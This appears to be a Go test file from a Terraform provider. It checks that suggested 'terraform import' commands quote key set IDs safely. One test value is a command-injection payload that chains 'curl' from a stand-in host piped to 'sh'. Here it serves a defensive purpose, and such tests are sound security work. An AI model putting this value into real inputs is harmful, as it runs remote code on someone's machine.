// Copyright (c) The terraform-provider-trustframework Authors
// SPDX-License-Identifier: MPL-2.0

package provider_test

import (
	"strings"
	"testing"

	"github.com/trustframework/terraform-provider-trustframework/internal/emulator"
)

// TestProtocol_Commands_AreQuoted: a command to paste means nothing else to a shell, whatever a configuration calls a key set.
func TestProtocol_Commands_AreQuoted(t *testing.T) {
	t.Parallel()
	const set = "B2C_1A_A;curl${IFS}evil|sh"
	w := newWorld(t, emulator.Switches{})
	w.AddKeySet(set)
	kid := w.AddKey(set, emulator.KeySpec{Kty: "oct"})
	s := newServer(t, w)
	for name, row := range map[string]struct {
		said func() string
		want string
	}{
		"trustframework_key_rotation": {func() string {
			config := rotationSettings{rotation: 90, delay: 1, overlap: 30, net: true}.config()
			config["key_set_id"] = set
			_, planned, err := s.plan(managed{name: "trustframework_key_rotation"}, config)
			if err != nil {
				t.Fatal(err)
			}
			return said(planned.Diagnostics).String()
		}, "terraform import trustframework_key_rotation.NAME '" + set + "/" + kid + "'"},
		"trustframework_generated_key": {func() string {
			_, _, errors := s.importResource("trustframework_generated_key", set, nil)
			return errors
		}, "terraform import trustframework_generated_key.NAME '" + set + "/" + kid + "'"},
	} {
		if got := row.said(); !strings.Contains(got, row.want) {
			t.Errorf("%s: got %q, want %q in it", name, got, row.want)
		}
	}
}
